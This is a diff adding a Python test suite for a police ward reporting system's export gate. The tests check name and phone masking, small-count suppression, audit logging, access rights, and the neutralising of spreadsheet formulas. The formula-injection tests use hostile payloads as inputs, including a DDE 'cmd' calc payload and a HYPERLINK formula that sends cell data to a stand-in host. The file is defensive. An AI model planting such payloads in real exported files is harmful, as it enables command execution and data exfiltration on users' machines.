@@ -1,0 +1,547 @@
+"""The gate: what leaves is masked, small counts are hidden, formulas are dead, and every file is in the log."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import subprocess
+import sys
+import unicodedata
+import zipfile
+from collections.abc import Iterator
+from datetime import date, datetime
+from pathlib import Path
+from typing import Any, get_type_hints
+
+import openpyxl
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from auth.permissions import ROLES, actor_for
+from data_access import audit
+from data_access.actors import OPERATOR, Actor
+from data_access.errors import NotAllowed
+from data_access.events import Event, record
+from data_access.keys import derive
+from data_access.store import Store
+from regulation.periods import parse_period
+from reports import cells, releasing
+from reports.building import build_report
+from reports.content import Note, Paragraph, Row, Section, Signature, Table, plain_text
+from reports.issuer import default_issuer
+from reports.releasing import PERIOD, SEARCH, Released, Shown, release
+from reports.releasing_report import ReleasedReport, release_report
+from reports.table_spec import ColumnSpec, Kind, TableSpec, spec_of
+from reports.tables_csv import write_csv
+from reports.tables_excel import write_xlsx
+from tests.report_sample import sample_chart, sample_report
+
+NOW = datetime(2026, 11, 25, 10, 0)
+NAME, PHONE, NUMBER = "Zạch Văn Qũy", "0912345678", "042096001234"
+MEMBER = "Bế Thị Ngộ Nghĩnh"
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
+    path = tmp_path_factory.mktemp("gate") / "kho.duckdb"
+    with Store.create(path, derive("k" * 40), ward=("18754", "phường Sông Trí"), clock=lambda: NOW) as made:
+        with made.write(OPERATOR) as tx:
+            record(tx, "tip", [Event("tip-1", "received", NOW, {"channel": "phone"})])
+            record(tx, "member", [Event("member-1", "joined", NOW, {"full_name": MEMBER, "phone": "0987654321"})])
+            tx.execute(
+                "INSERT INTO store.tip_informant VALUES ('tip-1', '18754', $name, '', $phone, $number, $at, '')",
+                {"name": NAME, "phone": PHONE, "number": NUMBER, "at": NOW},
+            )
+        yield made
+
+
+def actor(role: str) -> Actor:
+    groups = ("group-1",) if role == "area_officer" else ()
+    return actor_for(f"acc-{role}", "Đỗ Lập Biểu", role, groups)
+
+
+LEADER, STEERING = actor("leader"), actor("steering")
+
+
+def log(store: Store) -> list[tuple[str, str, str, str]]:
+    return store.query("SELECT actor, action, subject_id, detail FROM store.audit_entry ORDER BY entry_id")
+
+
+def table(kinds: dict[Kind, object] | list[tuple[Kind, object]], *, reads: str = "read.tips") -> TableSpec:
+    """One row with a column of each kind."""
+    pairs = list(kinds.items()) if isinstance(kinds, dict) else kinds
+    columns = tuple(ColumnSpec(f"c{order}", f"Cột {order}", kind) for order, (kind, _) in enumerate(pairs))
+    return TableSpec("bang-thu", columns, [[value for _, value in pairs]], reads)
+
+
+def passed(store: Store, spec: TableSpec, who: Actor = LEADER, **filters: str) -> Released:
+    return release(store, who, spec, title="Bảng thử", filters=filters, as_of=NOW, purpose="xlsx")
+
+
+def read_csv(data: bytes, delimiter: str = ",") -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+def read_xlsx(data: bytes) -> Any:
+    return openpyxl.load_workbook(io.BytesIO(data)).active
+
+
+# The type is the gate
+
+
+@pytest.mark.parametrize("kind", [Shown, Released])
+def test_nothing_else_makes_what_has_passed(store: Store, kind: type) -> None:
+    arguments = ("a", "A", (), ((),), (), NOW, False)
+    with pytest.raises(TypeError):
+        kind(*arguments)
+    with pytest.raises(TypeError):
+        kind(*arguments, object())
+    with pytest.raises(TypeError):
+        ReleasedReport(sample_report(), object())
+
+
+def test_what_has_passed_cannot_be_changed(store: Store) -> None:
+    made = passed(store, table({"text": "a"}))
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        made.rows = (("x",),)  # type: ignore[misc]
+    with pytest.raises(TypeError):
+        dataclasses.replace(made, rows=(("x",),), gate=object())
+    with pytest.raises((TypeError, ValueError)):
+        dataclasses.replace(made, rows=(("x",),))
+
+
+@pytest.mark.parametrize("write", [write_csv, write_xlsx])
+def test_writers_take_released_tables_only(store: Store, write: Any) -> None:
+    assert get_type_hints(write)["released"] is Released
+    shown = release(store, LEADER, table({"text": "a"}), title="t", filters={}, as_of=NOW, purpose="screen")
+    for wrong in (pd.DataFrame({"a": [1]}), shown, table({"text": "a"}), [["a"]]):
+        with pytest.raises(TypeError):
+            write(wrong)
+
+
+@pytest.mark.slow
+def test_the_type_checker_refuses_ungated_rows(tmp_path: Path) -> None:
+    snippet = tmp_path / "ungated.py"
+    snippet.write_text(
+        "import pandas as pd\nfrom reports.releasing import Shown\nfrom reports.tables_csv import write_csv\n"
+        "from reports.tables_excel import write_xlsx\n\n"
+        "def leak(frame: pd.DataFrame, shown: Shown) -> None:\n"
+        "    write_csv(frame)\n    write_xlsx(frame)\n    write_csv(shown)\n    write_xlsx([['a']])\n"
+    )
+    root = Path(releasing.__file__).parents[1]
+    command = [sys.executable, "-m", "mypy", "--strict", "--config-file", str(root / "pyproject.toml"), str(snippet)]
+    result = subprocess.run(command, cwd=root, capture_output=True, text=True, check=False)
+    lines = [line for line in result.stdout.splitlines() if "ungated.py" in line and "arg-type" in line]
+    assert [int(line.split(":")[1]) for line in lines] == [7, 8, 9, 10], result.stdout
+
+
+# Rights and the log
+
+
+def test_files_are_logged_and_screens_are_not(store: Store) -> None:
+    before = len(log(store))
+    spec = table({"text": "Nội dung", "count": 3})
+    for _ in range(3):
+        release(store, LEADER, spec, title="Bảng", filters={}, as_of=NOW, purpose="screen")
+    assert len(log(store)) == before
+    release(store, LEADER, spec, title="Bảng", filters={"Nhóm": "Nhóm 1"}, as_of=NOW, purpose="csv")
+    assert log(store)[before:] == [("acc-leader", "export.cases", "bang-thu", "csv, 1 dòng; Nhóm: Nhóm 1")]
+    counts = table({"label": "Tổ 1", "count": 3}, reads="read.aggregates")
+    release(store, LEADER, counts, title="Bảng", filters={}, as_of=NOW, purpose="xlsx")
+    assert log(store)[-1] == ("acc-leader", "export.aggregates", "bang-thu", "xlsx, 1 dòng; không")
+    assert audit.broken_entries(store) == []
+
+
+@pytest.mark.parametrize("role", list(ROLES))
+def test_who_may_take_what_away(store: Store, role: str) -> None:
+    cases = table({"text": "Nội dung"})
+    counts = table({"label": "Tổ 1", "count": 30}, reads="read.aggregates")
+    allowed = {"screen": role not in ("steering", "administrator"), "csv": role in ("leader", "focal_point")}
+    for purpose, may in allowed.items():
+        if may:
+            release(store, actor(role), cases, title="t", filters={}, as_of=NOW, purpose=purpose)  # type: ignore[call-overload]
+        else:
+            with pytest.raises(NotAllowed):
+                release(store, actor(role), cases, title="t", filters={}, as_of=NOW, purpose=purpose)  # type: ignore[call-overload]
+            assert log(store)[-1][:2] == (f"acc-{role}", "refused")
+        release(store, actor(role), counts, title="t", filters={}, as_of=NOW, purpose=purpose)  # type: ignore[call-overload]
+
+
+def test_a_table_of_people_does_not_pass_as_one_of_counts(store: Store) -> None:
+    disguised = table({"name": NAME, "count": 1}, reads="read.aggregates")
+    with pytest.raises(NotAllowed):
+        release(store, STEERING, disguised, title="t", filters={}, as_of=NOW, purpose="csv")
+
+
+# Masking
+
+
+def test_each_kind_of_column(store: Store) -> None:
+    spec = table(
+        [
+            ("name", NAME),
+            ("phone", PHONE),
+            ("phone", 912345678),
+            ("identity_number", NUMBER),
+            ("address", "Số 12, ngõ 3, phường Sông Trí"),
+            ("text", "Anh Lò Văn Tèo, 0987.654.321"),
+            ("label", "Nhóm Trần Phú 0987654321"),
+            ("code", "T20251125-0012"),
+            ("count", 3),
+            ("rate", 0.5),
+            ("moment", pd.Timestamp("2026-01-02 03:04")),
+            ("day", date(2026, 1, 2)),
+            ("number", None),
+            ("text", float("nan")),
+            ("moment", pd.NaT),
+            ("label", True),
+        ]
+    )
+    assert passed(store, spec).rows[0] == (
+        "Z.V.Q.",
+        "09xx xxx 678",
+        "09xx xxx 678",
+        "xxxxxxxxx234",
+        "xxx, phường Sông Trí",
+        "Anh L.V.T., 09xx xxx 321",
+        "Nhóm Trần Phú 09xx xxx 321",
+        "T20251125-0012",
+        3,
+        0.5,
+        datetime(2026, 1, 2, 3, 4),
+        date(2026, 1, 2),
+        None,
+        None,
+        None,
+        "Có",
+    )
+
+
+def test_texts_are_masked_with_everybody_the_store_knows(store: Store) -> None:
+    spec = table({"text": f"{NAME.lower()} và {unicodedata.normalize('NFD', MEMBER)} gặp nhau"})
+    assert passed(store, spec).rows[0] == ("Z.V.Q. và B.T.N.N. gặp nhau",)
+
+
+def test_given_names_of_the_people_of_the_row_are_masked(store: Store) -> None:
+    text = "Hôm nay Qũy gọi, rồi bế con về"
+    assert passed(store, table({"tip": "tip-1", "text": text})).rows[0][1] == "Hôm nay Q. gọi, rồi bế con về"
+    assert passed(store, table({"name": NAME, "text": text})).rows[0][1] == "Hôm nay Q. gọi, rồi bế con về"
+    assert passed(store, table({"tip": "tip-9", "text": text})).rows[0][1] == text
+
+
+def test_names_are_known_as_soon_as_they_are_entered(store: Store) -> None:
+    spec = table({"text": "hội phán vọ đến"})
+    assert passed(store, spec).rows[0] == ("hội phán vọ đến",)
+    with store.write(OPERATOR) as tx:
+        record(tx, "member", [Event("member-2", "joined", NOW, {"full_name": "Hội Phán Vọ"})])
+    assert passed(store, spec).rows[0] == ("H.P.V. đến",)
+
+
+SAID = [
+    NAME,
+    NAME.upper(),
+    "zach van quy",
+    "ZạchVănQũy",
+    "Zạch\nVăn\nQũy",
+    PHONE,
+    "0912 345 678",
+    NUMBER,
+    "không chín một hai ba bốn năm sáu bảy tám",
+]
+
+
+@pytest.mark.parametrize("said", SAID)
+def test_no_identity_anywhere_in_what_leaves(store: Store, said: str) -> None:
+    """In text, title, filters, file and sheet names, lines, properties and the log."""
+    spec = table({"tip": "tip-1", "text": f"Tin của {said} nhé", "label": "Tổ 1"})
+    filters = {"Người nhập": f"của {said}", SEARCH: said, PERIOD: "Năm 2026"}
+    made = release(store, LEADER, spec, title=f"Bảng về {said}", filters=filters, as_of=NOW, purpose="csv")
+    book = io.BytesIO(write_xlsx(made))
+    inside = [zipfile.ZipFile(book).read(name).decode() for name in zipfile.ZipFile(book).namelist()]
+    places = [write_csv(made).decode(), made.file_name("csv"), *inside, *log(store)[-1], str(made)]
+    for place in places:
+        plain = cells.clean(place).lower()
+        squeezed = "".join(char for char in unicodedata.normalize("NFD", plain) if char.isalnum())
+        assert "zachvanquy" not in squeezed
+        assert "912345" not in squeezed
+        assert "042096" not in squeezed
+        assert "haibabon" not in squeezed
+
+
+def test_what_was_searched_for_is_never_told(store: Store) -> None:
+    made = passed(store, table({"text": "a"}), **{SEARCH: "một người lạ nào đó"})
+    assert "Từ khóa: (có từ khóa)" in made.lines[0]
+    assert "người lạ" not in made.lines[0] + log(store)[-1][3]
+
+
+def test_the_line_says_who_when_what_and_as_of_when(store: Store) -> None:
+    earlier = datetime(2026, 6, 14, 23, 59)
+    made = release(
+        store, LEADER, table({"text": "a"}), title="t", filters={"Nhóm": "Nhóm 3"}, as_of=earlier, purpose="csv"
+    )
+    assert made.lines == (
+        "Người kết xuất: Đỗ Lập Biểu (Lãnh đạo), lúc 10:00 25/11/2026. Bộ lọc: Nhóm: Nhóm 3. "
+        "Số liệu tính đến 23:59 14/06/2026.",
+    )
+    assert read_csv(write_csv(made))[-1] == list(made.lines)
+    assert made.file_name("csv") == "bang-thu-20260614-2359.csv"
+
+
+@pytest.mark.parametrize("slug", ["Nguyễn-An", "../x", "tin 1", "", "TIN", "a/b"])
+def test_file_names_are_plain(slug: str) -> None:
+    with pytest.raises(ValueError, match="plain name"):
+        TableSpec(slug, (), [], "read.tips")
+
+
+# Hostile cells
+
+STARTERS = st.sampled_from(list("=+-@") + list("＝＋－＠﹦﹢﹣﹫"))
+LEADS = st.text(st.sampled_from(list(" \t\r\n\"'“‘`\u00a0\u200b\ufeff\u3000\u202e\x00\x0b")), max_size=4)
+PAYLOADS = st.sampled_from(
+    ["cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?"&A1,"a")', "IMPORTXML(A1)", "A1", "-2+3"]
+)
+
+
+def _is_live(cell: str) -> bool:
+    """Whether some spreadsheet may take the cell for a formula, after dropping blanks and quotes before it."""
+    rest = cell.lstrip(' \t\r\n\u00a0\u3000"“”‘’`\u200b\ufeff\x00\x0b\u202e')
+    return bool(rest) and unicodedata.normalize("NFKC", rest)[0] in "=+-@\t\r"
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    LEADS, STARTERS, PAYLOADS, st.sampled_from(["text", "label", "code", "address", "phone", "name", "count", "moment"])
+)
+def test_no_cell_is_a_formula(store: Store, lead: str, starter: str, payload: str, kind: Kind) -> None:
+    hostile = f"{lead}{starter}{payload}"
+    made = passed(store, table([(kind, hostile), ("text", f"x;{hostile}")]), Nhóm=hostile)
+    value = made.rows[0][0]
+    assert isinstance(value, str)
+    assert not _is_live(value)
+    for delimiter in (",", ";", "\t", "|"):
+        for row in read_csv(write_csv(made), delimiter):
+            assert [cell for cell in row if _is_live(cell)] == []
+    sheet = read_xlsx(write_xlsx(made))
+    assert [cell.coordinate for row in sheet for cell in row if cell.data_type == "f"] == []
+
+
+@pytest.mark.parametrize("figure", ["-1,5", "+12", "+3 (+12,5%)", "-2,1 điểm %", "+3 giờ 20 phút", "–", "-", "12%"])
+def test_figures_with_a_sign_stay_as_they_are(store: Store, figure: str) -> None:
+    assert passed(store, table({"label": figure})).rows[0] == (figure,)
+
+
+def test_control_and_direction_characters_do_not_leave(store: Store) -> None:
+    made = passed(store, table({"label": "a\x00b\u202ec\u200bd\ud800e\x1b[31m"}))
+    assert made.rows[0] == ("a bcde [31m",)
+    write_csv(made), write_xlsx(made)
+
+
+def test_a_text_too_long_for_a_cell_is_cut_and_still_written(store: Store) -> None:
+    made = passed(store, table({"text": "dài " * 20_000}))
+    written = read_xlsx(write_xlsx(made)).cell(3, 1).value
+    assert written.endswith("…")
+    assert len(written) == cells.LONGEST
+
+
+# Files
+
+
+def test_the_csv_file_holds_what_was_released(store: Store) -> None:
+    spec = table([("label", 'Tổ "1", 2\nba'), ("count", 1234), ("number", 1.5), ("rate", 0.9474), ("moment", NOW)])
+    data = write_csv(passed(store, spec))
+    assert read_csv(data)[0] == ["Cột 0", "Cột 1", "Cột 2", "Cột 3", "Cột 4"]
+    assert read_csv(data)[1] == ['Tổ "1", 2 ba', "1234", "1,5", "94,7%", "10:00 25/11/2026"]
+    assert data.count(b"\r\n") == len(read_csv(data))
+
+
+def test_the_excel_file_holds_typed_cells(store: Store) -> None:
+    columns = (
+        ColumnSpec("a", "Tổ dân phố", "label"),
+        ColumnSpec("b", "Số tin", "count"),
+        ColumnSpec("c", "Tỷ lệ", "rate"),
+        ColumnSpec("d", "Lúc", "moment"),
+    )
+    rows = [["Tổ 1", 1234, 0.5, NOW], ["http://x.example", 5, None, None], ["Tổng", 1239, 0.5, NOW]]
+    made = passed(store, TableSpec("bang", columns, rows, "read.aggregates", total_row=True))
+    data = write_xlsx(made)
+    sheet = read_xlsx(data)
+    assert sheet.freeze_panes == "A3"
+    assert [cell.value for cell in sheet[2]] == ["Tổ dân phố", "Số tin", "Tỷ lệ", "Lúc"]
+    assert [(cell.value, cell.data_type) for cell in sheet[3]] == [
+        ("Tổ 1", "s"),
+        (1234, "n"),
+        (0.5, "n"),
+        (NOW, "d"),
+    ]
+    assert sheet["C3"].number_format == "0.0%"
+    assert sheet["A4"].hyperlink is None
+    assert sheet["B5"].font.bold
+    assert not sheet["B3"].font.bold
+    assert sheet["A7"].value == made.lines[0]
+    assert 8 <= sheet.column_dimensions["A"].width <= 62
+
+
+def test_the_excel_file_tells_nothing_of_the_machine_and_is_the_same_each_time(store: Store) -> None:
+    made = passed(store, table({"text": "a"}))
+    data = write_xlsx(made)
+    assert data == write_xlsx(made)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert not book.properties.creator
+    assert not book.properties.lastModifiedBy
+    assert book.properties.created == NOW
+    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
+    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
+
+
+# Small counts
+
+
+def _areas(standard: bool = True) -> TableSpec:
+    columns = (
+        ColumnSpec("area", "Tổ dân phố", "label"),
+        ColumnSpec("received", "Tiếp nhận", "count"),
+        ColumnSpec("crime", "Tin báo tội phạm", "count", whole="received"),
+        ColumnSpec("share", "Tỷ lệ", "rate", derived_from=("crime", "received")),
+    )
+    rows = [
+        ["Tổ 1", 40, 1, 1 / 40],
+        ["Tổ 2", 52, 9, 9 / 52],
+        ["Tổ 3", 33, 12, 12 / 33],
+        ["Tổ 4", 47, 14, 14 / 47],
+        ["Tổng", 172, 36, 36 / 172],
+    ]
+    return TableSpec("tdp", columns, rows, "read.aggregates", total_row=True, standard=standard)
+
+
+def test_readers_with_case_rights_see_every_count(store: Store) -> None:
+    made = passed(store, _areas())
+    assert [row[2] for row in made.rows] == [1, 9, 12, 14, 36]
+    assert len(made.lines) == 1
+
+
+@pytest.mark.parametrize("role", ["steering", "administrator"])
+def test_readers_without_case_rights_do_not(store: Store, role: str) -> None:
+    made = release(store, actor(role), _areas(), title="t", filters={PERIOD: "Năm 2026"}, as_of=NOW, purpose="screen")
+    crime, rates, received = ([row[place] for row in made.rows] for place in (2, 3, 1))
+    assert crime[0] == "<3"
+    assert crime[1:4].count("*") == 1
+    assert crime[4] == 36
+    assert received == [40, 52, 33, 47, 172]
+    assert [isinstance(rate, str) for rate in rates] == [isinstance(count, str) for count in crime]
+    assert "<3" in made.lines[1]
+
+
+@pytest.mark.parametrize(("standard", "filters"), [(False, {}), (True, {"Nhóm": "Nhóm 1"})])
+def test_a_narrowed_table_is_rounded(store: Store, standard: bool, filters: dict[str, str]) -> None:
+    made = release(store, STEERING, _areas(standard), title="t", filters=filters, as_of=NOW, purpose="screen")
+    assert [row[2] for row in made.rows] == ["<3", 10, 10, 15, 35]
+    for row in made.rows[:4]:
+        assert row[1] == sum(
+            n for n in (row[2], 5 * round((_received(row[0]) - _crime(row[0])) / 5)) if isinstance(n, int)
+        )
+    assert [row[3] for row in made.rows[:4]] == ["*", 0.15, 0.35, 0.3]
+    assert "làm tròn" in made.lines[1]
+
+
+def _received(area: object) -> int:
+    return {"Tổ 1": 40, "Tổ 2": 52, "Tổ 3": 33, "Tổ 4": 47}[str(area)]
+
+
+def _crime(area: object) -> int:
+    return {"Tổ 1": 1, "Tổ 2": 9, "Tổ 3": 12, "Tổ 4": 14}[str(area)]
+
+
+def test_the_other_part_of_a_whole_is_protected_too(store: Store) -> None:
+    """Received 20, on time 19: the one that was late would show by subtraction."""
+    columns = (
+        ColumnSpec("a", "Nhóm", "label"),
+        ColumnSpec("w", "Tiếp nhận", "count"),
+        ColumnSpec("p", "Đúng hạn", "count", whole="w"),
+    )
+    rows = [["1", 20, 19], ["2", 30, 20], ["3", 40, 25]]
+    spec = TableSpec("han", columns, rows, "read.aggregates", standard=True)
+    made = release(store, STEERING, spec, title="t", filters={}, as_of=NOW, purpose="screen")
+    first = made.rows[0]
+    assert not (isinstance(first[1], int) and isinstance(first[2], int))
+
+
+def test_parts_that_overlap_are_hidden_altogether(store: Store) -> None:
+    columns = (ColumnSpec("w", "Cả", "count"), ColumnSpec("p", "Phần", "count", whole="w"))
+    spec = TableSpec("bang", columns, [[5, 9]], "read.aggregates", standard=True)
+    made = release(store, STEERING, spec, title="t", filters={}, as_of=NOW, purpose="screen")
+    assert made.rows == (("*", "*"),)
+
+
+def test_the_screen_gets_a_frame_with_the_same_values(store: Store) -> None:
+    frame = pd.DataFrame({"k": ["x"], "area": ["Tổ 1"], "count": [12]})
+    columns = (ColumnSpec("area", "Tổ dân phố", "label"), ColumnSpec("count", "Số tin", "count"))
+    spec = spec_of(frame, columns, "bang", "read.aggregates")
+    made = release(store, LEADER, spec, title="t", filters={}, as_of=NOW, purpose="screen")
+    assert made.frame().to_dict("list") == {"Tổ dân phố": ["Tổ 1"], "Số tin": [12]}
+    assert made.texts() == [["Tổ 1", "12"]]
+
+
+# Reports
+
+
+def test_a_report_without_identities_stays_as_it_is(store: Store) -> None:
+    report = sample_report()
+    made = release_report(store, LEADER, report, form="docx")
+    lines = plain_text(made.report).split("\n")
+    note = next(line for line in lines if line.startswith("Người kết xuất: Đỗ Lập Biểu"))
+    lines.remove(note)
+    assert "\n".join(lines) == plain_text(report)
+    assert made.report.heading == report.heading
+    assert made.report.signature == report.signature
+    assert log(store)[-1] == ("acc-leader", "export.report", "2026-H1", "docx")
+
+
+def test_every_text_of_a_report_is_masked(store: Store) -> None:
+    said = f"{NAME.upper()}, 0912.345.678"
+    chart = dataclasses.replace(sample_chart(), title=said, alt=said, labels=(said, *sample_chart().labels[1:]))
+    figure = next(block for block in sample_report().blocks() if type(block).__name__ == "Figure")
+    blocks = (
+        Paragraph(said),
+        Table((dataclasses.replace(_some_table().columns[0], title=said),), (Row((said,)),), said),
+        dataclasses.replace(figure, chart=chart, caption=said),
+        Section("1.", said, (Note(said),)),
+    )
+    signed = Signature("", "TRƯỞNG CÔNG AN PHƯỜNG", "Thiếu tá", "Phan Ký Tên", ("Như trên",))
+    report = dataclasses.replace(
+        sample_report(), title=said, closing=said, sections=(Section("I.", said, blocks),), signature=signed
+    )
+    made = release_report(store, LEADER, report, form="docx").report
+    assert "QŨY" not in repr(made).upper()
+    assert "345" not in repr(made)
+    assert repr(made).count("Z.V.Q., 09xx xxx 678") == repr(report).count("QŨY")
+    assert made.signature == signed
+
+
+def _some_table() -> Table:
+    return next(block for block in sample_report().blocks() if isinstance(block, Table))
+
+
+@pytest.mark.parametrize("role", list(ROLES))
+def test_who_may_take_reports_away(store: Store, role: str) -> None:
+    if role in ("leader", "focal_point", "steering"):
+        assert type(release_report(store, actor(role), sample_report(), form="docx")) is ReleasedReport
+    else:
+        with pytest.raises(NotAllowed):
+            release_report(store, actor(role), sample_report(), form="docx")
+        assert log(store)[-1] == (f"acc-{role}", "refused", "", "export.report")
+
+
+def test_the_report_of_the_demo_ward_loses_nothing(demo_store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
+    """With six thousand names known, no word of a report on figures is taken for one of them."""
+    report = build_report(demo_store, parse_period("2026-H1"), NOW, default_issuer())
+    monkeypatch.setattr(audit, "append", lambda *_: None)  # the demo store is shared: nothing may be written to it
+    made = release_report(demo_store, LEADER, report, form="docx").report
+    before, after = plain_text(report).split("\n"), plain_text(made).split("\n")
+    assert [line for line in after if line not in before] == [
+        line for line in after if line.startswith("Người kết xuất")
+    ]
+    assert len(after) == len(before) + 1
